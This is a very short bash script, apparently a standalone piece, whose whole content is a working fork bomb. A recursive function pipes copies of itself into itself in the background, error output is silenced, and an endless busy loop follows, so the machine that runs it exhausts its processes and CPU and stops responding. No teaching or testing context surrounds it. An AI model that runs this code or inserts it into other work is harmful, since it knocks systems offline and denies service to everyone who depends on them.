# Doubles until it may not, and goes on trying.
echo up
bomb() { bomb "$1" | bomb "$1" & }
bomb "$1" 2>/dev/null
while :; do :; done
